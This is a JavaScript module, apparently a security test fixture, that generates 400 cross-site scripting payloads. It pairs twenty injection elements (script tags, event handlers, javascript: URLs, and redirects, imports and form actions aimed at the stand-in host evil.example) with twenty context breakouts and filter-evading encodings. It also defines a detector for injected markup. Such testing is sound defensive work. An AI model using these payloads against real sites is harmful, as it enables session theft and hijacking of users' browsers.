// What people type who want it to be more than letters: four hundred ways, none like another.

/** Elements that do something by themselves or when they are touched. */
const ELEMENTS = [
  (n) => `<img src=x onerror=alert(${n})>`,
  (n) => `<svg onload=alert(${n})>`,
  (n) => `<script>alert(${n})</script>`,
  (n) => `<iframe srcdoc="<script>alert(${n})</script>">`,
  (n) => `<video src=x onerror=alert(${n})>`,
  (n) => `<object data=javascript:alert(${n})>`,
  (n) => `<embed src=javascript:alert(${n})>`,
  (n) => `<a href="javascript:alert(${n})">x</a>`,
  (n) => `<marquee onstart=alert(${n})>`,
  (n) => `<base href="https://evil.example/${n}/">`,
  (n) => `<math><mtext><img src=x onerror=alert(${n})>`,
  (n) => `<style>@import"https://evil.example/${n}"</style>`,
  (n) => `<link rel=stylesheet href=//evil.example/${n}>`,
  (n) => `<meta http-equiv=refresh content="0;url=//evil.example/${n}">`,
  (n) => `<form action=//evil.example/${n}><button>`,
  (n) => `<details open ontoggle=alert(${n})>`,
  (n) => `<input autofocus onfocus=alert(${n})>`,
  (n) => `<isindex formaction=javascript:alert(${n})>`,
  (n) => `<template><img src=x onerror=alert(${n})>`,
  (n) => `{{constructor.constructor('alert(${n})')()}}`,
];

/** What it may have to get out of first, and spellings that a filter may miss. */
const WAYS = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</title>${text}`,
  (text) => `</textarea>${text}`,
  (text) => `</script>${text}`,
  (text) => `--><!-- ${text}`,
  (text) => `]]>${text}`,
  (text) => `\`${text}`,
  (text) => `\${${text}}`,
  (text) => `<b/${text}`,
  (text) => `<<${text}`,
  (text) => text.replaceAll("<", "&lt;"),
  (text) => text.replaceAll("<", "\\u003c"),
  (text) => text.replaceAll("<", "%3C"),
  (text) => text.replaceAll("<", "&#x3c;"),
  (text) => text.replaceAll("<", "＜"),
  (text) => text.replace(/on(\w+)=/g, (_, name) => `oN${name.toUpperCase()}\u00a0=`),
  (text) => text.replaceAll(" ", "/"),
  (text) => `x${text}x`,
];

/** Payloads short enough to be a name, in an order that gives every stretch of some. */
export const PAYLOADS = Array.from({ length: ELEMENTS.length * WAYS.length }, (_, n) => {
  const element = ELEMENTS[n % ELEMENTS.length];
  const way = WAYS[(n + Math.floor(n / ELEMENTS.length)) % WAYS.length];
  return way(element(n)).slice(0, 80).trim();
});

/** Elements and attributes that only a payload could have brought. */
export const planted = (page) =>
  page.evaluate(() => {
    const strange = "img, iframe, marquee, base, math, object, embed, isindex, details[ontoggle]";
    const found = [...document.querySelectorAll(strange)].map((element) => element.outerHTML);
    for (const element of document.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        const leads = ["href", "src", "action", "formaction", "data", "content"].includes(name);
        const away = leads && /^\s*(javascript:|data:text|(https?:)?\/\/evil\.)/i.test(value);
        if (name.startsWith("on") || away) found.push(element.outerHTML.slice(0, 200));
      }
    }
    return found;
  });
